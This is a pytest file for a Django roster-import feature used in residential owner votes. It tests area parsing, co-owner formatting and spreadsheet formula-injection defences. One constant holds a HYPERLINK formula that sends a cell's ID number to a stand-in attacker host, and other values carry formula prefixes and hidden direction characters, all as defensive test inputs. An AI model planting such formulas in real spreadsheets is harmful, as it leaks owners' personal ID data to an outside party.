"""What a roster's cells may say (issue 9, §4, §6, §7): areas that could be misread are
refused, not stored 100 times too large; areas outside the usual range wait for the clerk's
confirmation; text a spreadsheet would run as a formula is refused at import and written
as text on export; co-owners separated wrongly, one owner both developer-held and not,
Excel's float noise and rare CJK characters — each through the parser, `import_roster`
and the vote page."""

from __future__ import annotations

import hashlib
import io
import re
import zipfile
from decimal import Decimal
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from audit.models import AuditEvent
from cases import services as case_services
from cases.models import Case, Flat, Owner
from cases.services import OwnerData
from cases.tests.factories import UserFactory, open_case
from cases.validators import credit_code_check_char, id_number_check_char
from voting import services
from voting.roster import TableFileError, UnusualAreasError, export_roster_xlsx, parse_roster

from .factories import ROSTER_HEADER, sample_roster_rows, table_csv

pytestmark = pytest.mark.django_db

PERSON = "35050319600101002" + id_number_check_char("35050319600101002")
SPOUSE = "35050319620202003" + id_number_check_char("35050319620202003")
COMPANY = "91350503MA1234567" + credit_code_check_char("91350503MA1234567")
ADDRESS = "丰泽区东湖街道刺桐花园9幢"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&F2,"点此核对")'


def rows_with(**changes) -> list[list[object]]:
    """The sample roster's rows; `changes` maps 'r<index>_<column>' to a new value."""
    rows = [[row[h] for h in ROSTER_HEADER] for row in sample_roster_rows()]
    for key, value in changes.items():
        index, column = key[1:].split("_", 1)
        rows[int(index)][ROSTER_HEADER.index(column)] = value
    return rows


def problems_of(data: bytes, name: str = "名册.csv", **kwargs) -> list[str]:
    with pytest.raises(TableFileError) as err:
        parse_roster(data, name, **kwargs)
    return err.value.messages


def xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in [ROSTER_HEADER, *rows]:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def counts() -> list[int]:
    return [m.objects.count() for m in (Flat, Owner, Case, AuditEvent)]


def import_roster_command(path, *extra) -> list[str]:
    out = StringIO()
    call_command(
        "import_roster", str(path), "--district", "丰泽区", "--address", ADDRESS, "--unit", "1单元", *extra,
        stdout=out, stderr=StringIO(),
    )  # fmt: skip
    return out.getvalue().splitlines()


@pytest.fixture
def officer(client):
    user = UserFactory(with_role="district_officer", full_name="陈晓东")
    client.force_login(user)
    return user


def post_roster(client, case, data: bytes, name="名册.csv", **fields):
    payload = {"action": "import_roster", "import_roster-file": SimpleUploadedFile(name, data)}
    payload.update({f"import_roster-{key}": value for key, value in fields.items()})
    return client.post(reverse("admin:voting_case_vote", args=[case.pk]), payload)


# --- §6: areas ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "advice"),
    [
        ("79,60", "小数点请用英文句点，如“79.60”"),
        ("79，60", "小数点请用英文句点，如“79.60”"),
        ("1,23", "小数点请用英文句点，如“1.23”"),
        ("1,2345", "千位分隔符须每三位一个"),
        ("12,34.5", "千位分隔符须每三位一个"),
        ("79。60", "不是数字"),
    ],
)
def test_an_area_that_could_be_misread_is_refused_with_what_to_write(written, advice):
    problems = problems_of(table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积=written)))
    assert len(problems) == 1
    assert problems[0].startswith(f"第2行“专有部分面积”列（C列）：面积“{written}”")
    assert advice in problems[0]


@pytest.mark.parametrize(
    ("written", "area"), [("79.60", "79.60"), ("79.6", "79.60"), ("80", "80.00"), ("８０.５", "80.50")]
)
def test_plain_areas_read_as_written(written, area):
    rows = parse_roster(table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积=written)), "x.csv")
    assert rows[0].area == Decimal(area)


def test_thousands_grouped_by_three_are_read():
    rows = parse_roster(table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="1,234.56")), "x.csv", confirm_areas=True)
    assert rows[0].area == Decimal("1234.56")


def test_excel_float_noise_is_rounded_and_a_real_third_decimal_refused():
    rows = parse_roster(xlsx(rows_with(r0_专有部分面积=86.389999999999986, r1_专有部分面积=84.14)), "x.xlsx")
    assert (rows[0].area, rows[1].area) == (Decimal("86.39"), Decimal("84.14"))
    problems = problems_of(xlsx(rows_with(r0_专有部分面积=86.395)), "x.xlsx")
    assert problems == ["第2行“专有部分面积”列（C列）：面积“86.395”最多保留两位小数（单位：㎡）。"]


def test_unusual_areas_wait_for_confirmation_row_by_row():
    data = table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="7960", r3_专有部分面积="3.5"))
    with pytest.raises(UnusualAreasError) as err:
        parse_roster(data, "x.csv")
    assert err.value.messages == [
        "第2行“专有部分面积”列（C列）：面积 7960.00 ㎡ 大于一套房屋的常见上限 1000 ㎡，"
        "请核对（是否多写了一位，或把小数点写成了逗号）。",
        "第5行“专有部分面积”列（C列）：面积 3.50 ㎡ 小于一套房屋的常见下限 5 ㎡，请核对。",
    ]
    rows = parse_roster(data, "x.csv", confirm_areas=True)
    assert (rows[0].area, rows[3].area) == (Decimal("7960.00"), Decimal("3.50"))


def test_unusual_areas_are_listed_with_other_problems_in_row_order():
    data = table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="7960", r1_房号=""))
    with pytest.raises(TableFileError) as err:
        parse_roster(data, "x.csv")
    assert not isinstance(err.value, UnusualAreasError)
    assert [p[:3] for p in err.value.messages] == ["第2行", "第3行"]


def test_the_usual_range_is_a_setting(settings):
    settings.FLAT_AREA_USUAL_MAX = 100
    with pytest.raises(UnusualAreasError, match="大于一套房屋的常见上限 100 ㎡"):
        parse_roster(table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="120")), "x.csv")


def test_import_roster_refuses_unusual_areas_until_confirmed(tmp_path):
    path = tmp_path / "名册.csv"
    path.write_bytes(table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="7960")))
    before = counts()
    with pytest.raises(CommandError) as err:
        import_roster_command(path)
    message = str(err.value)
    assert "第2行“专有部分面积”列（C列）：面积 7960.00 ㎡ 大于一套房屋的常见上限 1000 ㎡" in message
    assert "请加 --confirm-areas 重新导入" in message
    assert counts() == before
    number = import_roster_command(path, "--confirm-areas")[-1]
    flat = Case.objects.get(number=number).unit.flats.get(room=rows_with()[0][0])
    assert flat.area == Decimal("7960.00")


def test_the_vote_page_asks_to_confirm_unusual_areas_for_that_file(client, officer):
    case = open_case()
    data = table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="7960"))
    before = counts()
    response = post_roster(client, case, data)
    assert response.status_code == 200
    page = response.content.decode()
    assert "面积 7960.00 ㎡ 大于一套房屋的常见上限 1000 ㎡" in page
    assert "请勾选下方“已核对上述面积，确认无误”，重新选择同一文件后再提交" in page
    assert re.search(r'<input type="checkbox" name="import_roster-confirm_areas"', page)
    digest = hashlib.sha256(data).hexdigest()
    assert f'name="import_roster-areas_file" value="{digest}"' in page
    assert counts() == before
    # Ticked for another file: asked again, nothing saved.
    other = table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="8000"))
    response = post_roster(client, case, other, confirm_areas="on", areas_file=digest)
    assert response.status_code == 200 and "面积 8000.00 ㎡" in response.content.decode()
    assert counts() == before
    # Ticked for this file: imported.
    response = post_roster(client, case, data, confirm_areas="on", areas_file=digest)
    assert response.status_code == 302
    assert case.unit.flats.get(room=rows_with()[0][0]).area == Decimal("7960.00")


def test_the_confirmation_checkbox_is_not_offered_before_it_is_needed(client, officer):
    case = open_case()
    page = client.get(reverse("admin:voting_case_vote", args=[case.pk])).content.decode()
    assert 'type="checkbox" name="import_roster-confirm_areas"' not in page


# --- §6: one owner both developer-held and not ---------------------------------------------


def test_an_owner_both_developer_held_and_not_is_refused_with_both_rows():
    rows = rows_with()
    developer_row = next(i for i, row in enumerate(rows) if row[6] == "是")
    company_name, company_id = rows[developer_row][4], rows[developer_row][5]
    rows[0][4], rows[0][5], rows[0][6] = company_name, company_id, "否"
    problems = problems_of(table_csv(ROSTER_HEADER, rows))
    assert problems == [
        f"第2行“开发商持有”列（G列）：业主“{company_name}”（证件号码{company_id}）的房屋在第{developer_row + 2}行"
        "标为开发商持有，在第2行未标：同一业主的房屋要么全部标为“是”（开发商未售或未交付的房屋），要么全部标为“否”，"
        "否则会被计为两个表决人。"
    ]
    rows[0][6] = "是"
    parsed = parse_roster(table_csv(ROSTER_HEADER, rows), "x.csv")
    assert [r.developer_held for r in parsed if r.owners[0].id_number == company_id] == [True, True]


def test_the_vote_page_names_the_developer_inconsistency_and_saves_nothing(client, officer):
    case = open_case()
    rows = rows_with()
    developer_row = next(i for i, row in enumerate(rows) if row[6] == "是")
    rows[0][4], rows[0][5] = rows[developer_row][4], rows[developer_row][5]
    before = counts()
    response = post_roster(client, case, table_csv(ROSTER_HEADER, rows))
    assert response.status_code == 200 and "否则会被计为两个表决人" in response.content.decode()
    assert counts() == before


# --- §4: formulas -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "letter"),
    [
        ("业主姓名", HYPERLINK, "E"),
        ("房号", "+101", "A"),
        ("不动产权证号", "@SUM(1)", "H"),
        ("业主姓名", "-张三", "E"),
    ],
)
def test_text_a_spreadsheet_would_run_is_refused_at_import(column, value, letter):
    problems = problems_of(table_csv(ROSTER_HEADER, rows_with(**{f"r0_{column}": value})))
    assert len(problems) == 1
    assert problems[0].startswith(f"第2行“{column}”列（{letter}列）：")
    assert f"以“{value[0]}”开头，电子表格程序会把它当作公式运行：请删去开头的“{value[0]}”" in problems[0]


def test_import_roster_and_the_vote_page_refuse_a_formula_and_save_nothing(client, officer, tmp_path):
    data = table_csv(ROSTER_HEADER, rows_with(r0_业主姓名=HYPERLINK))
    path = tmp_path / "名册.csv"
    path.write_bytes(data)
    before = counts()
    with pytest.raises(CommandError, match="第2行“业主姓名”列（E列）：“=HYPERLINK"):
        import_roster_command(path)
    assert counts() == before
    case = open_case()
    before = counts()
    response = post_roster(client, case, data)
    assert response.status_code == 200 and "电子表格程序会把它当作公式运行" in response.content.decode()
    assert counts() == before


def test_control_and_direction_characters_are_refused():
    problems = problems_of(table_csv(ROSTER_HEADER, rows_with(r0_业主姓名="张\u202e三", r1_不动产权证号="证\x07号")))
    assert problems[0].startswith("第2行“业主姓名”列（E列）：“张三”中有看不见的控制字符")
    assert problems[1].startswith("第3行“不动产权证号”列（H列）：“证号”中有看不见的控制字符")


def test_the_export_writes_formula_like_text_as_text(db):
    """Records stored before the import refused such text still export harmlessly."""
    case = open_case()
    for room, name, certificate in (("101", HYPERLINK, "+86 证"), ("102", "@张三", "-1")):
        case_services.flat_register(
            unit=case.unit, room=room, floor=1, area=Decimal("80"), area_source="register",
            certificate_no=certificate, developer_held=False,
            owners=[OwnerData(name=name, id_number=PERSON if room == "101" else SPOUSE)], actor=None,
        )  # fmt: skip
    flats = list(case.unit.flats.prefetch_related("ownerships__owner").order_by("room"))
    data = export_roster_xlsx(flats)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        styles_xml = archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    assert 'quotePrefix="1"' in styles_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {cell.coordinate: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    by_room = {cells[f"A{n}"].value: n for n in (2, 3)}
    name_cell = cells[f"E{by_room['101']}"]
    assert name_cell.value == HYPERLINK and name_cell.data_type == "s" and name_cell.quotePrefix
    assert cells[f"H{by_room['101']}"].quotePrefix and cells[f"E{by_room['102']}"].quotePrefix
    assert not cells[f"A{by_room['101']}"].quotePrefix  # ordinary text is left alone
    # Reading the export back names the formula-like cells instead of importing them.
    problems = problems_of(data, "export.xlsx")
    assert any(p.startswith("第") and "“业主姓名”列（E列）：“=HYPERLINK" in p for p in problems)


# --- §7: co-owners, names ------------------------------------------------------------------


@pytest.mark.parametrize("separator", ["/", ",", "，", " "])
def test_co_owners_separated_wrongly_are_told_to_use_the_enumeration_comma(separator):
    rows = rows_with(r0_业主姓名=f"张三{separator}李四", r0_证件号码=f"{PERSON}{separator}{SPOUSE}")
    problems = problems_of(table_csv(ROSTER_HEADER, rows))
    assert len(problems) == 1
    assert problems[0].startswith("第2行“证件号码”列（F列）：")
    assert "多名共有人的证件号码请以“、”分隔（不要用“/”、逗号或空格）" in problems[0]
    assert "37位" not in problems[0]


def test_names_separated_wrongly_are_named_with_the_count_mismatch():
    rows = rows_with(r0_业主姓名="张三/李四", r0_证件号码=f"{PERSON}、{SPOUSE}")
    problems = problems_of(table_csv(ROSTER_HEADER, rows))
    assert problems == [
        "第2行“证件号码”列（F列）：业主姓名有1个而证件号码有2个，二者须按相同顺序一一对应（多人以“、”分隔）；"
        "业主姓名中的“/”、逗号或空格请改为“、”。"
    ]


def test_co_owners_on_separate_lines_of_one_cell_are_told_to_use_the_enumeration_comma():
    rows = rows_with(r0_业主姓名="张三\n李四", r0_证件号码=f"{PERSON}\n{SPOUSE}")
    problems = problems_of(table_csv(ROSTER_HEADER, rows))
    assert sorted(problems) == [
        "第2行“业主姓名”列（E列）：一格中有换行：多名共有人的姓名请写在同一行，以“、”分隔。",
        "第2行“证件号码”列（F列）：一格中有换行：多名共有人的证件号码请写在同一行，以“、”分隔。",
    ]


RARE_NAMES = ["𠀀明", "王𪚥", "林\U0002f800华", "陈\uf900"]  # Extension B, a compatibility ideograph


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "xlsx"])
def test_rare_cjk_names_round_trip_through_import_database_and_export(encoding):
    rows = rows_with()
    ids = [row[5] for row in rows]
    single = [i for i, row in enumerate(rows) if "、" not in row[5] and ids.count(row[5]) == 1][: len(RARE_NAMES)]
    for index, name in zip(single, RARE_NAMES, strict=True):
        rows[index][4] = name
    rooms = [rows[i][0] for i in single]
    data = xlsx(rows) if encoding == "xlsx" else table_csv(ROSTER_HEADER, rows, encoding=encoding)
    parsed = {row.room: row for row in parse_roster(data, "x.xlsx" if encoding == "xlsx" else "x.csv")}
    assert [parsed[room].owners[0].name for room in rooms] == RARE_NAMES
    case = open_case()
    services.roster_import(unit=case.unit, rows=list(parsed.values()), actor=None)
    stored = {flat.room: [o.owner.name for o in flat.ownerships.all()] for flat in case.unit.flats.all()}
    assert [stored[room][0] for room in rooms] == RARE_NAMES
    flats = list(case.unit.flats.prefetch_related("ownerships__owner").order_by("floor", "room"))
    again = {row.room: row.owners[0].name for row in parse_roster(export_roster_xlsx(flats), "export.xlsx")}
    assert [again[room] for room in rooms] == RARE_NAMES


def test_the_vote_page_rounds_float_noise_and_refuses_a_decimal_comma(client, officer, tmp_path):
    case = open_case()
    response = post_roster(client, case, xlsx(rows_with(r0_专有部分面积=86.389999999999986)), name="名册.xlsx")
    assert response.status_code == 302
    assert case.unit.flats.get(room=rows_with()[0][0]).area == Decimal("86.39")
    before = counts()
    response = post_roster(client, case, table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="79，60")))
    assert response.status_code == 200
    assert (
        "第2行“专有部分面积”列（C列）：面积“79，60”中的逗号无法确定是小数点还是千位分隔符" in response.content.decode()
    )
    assert counts() == before
    path = tmp_path / "名册.csv"
    path.write_bytes(table_csv(ROSTER_HEADER, rows_with(r0_专有部分面积="79,60")))
    with pytest.raises(CommandError, match="小数点请用英文句点，如“79.60”"):
        import_roster_command(path)
    assert counts() == before
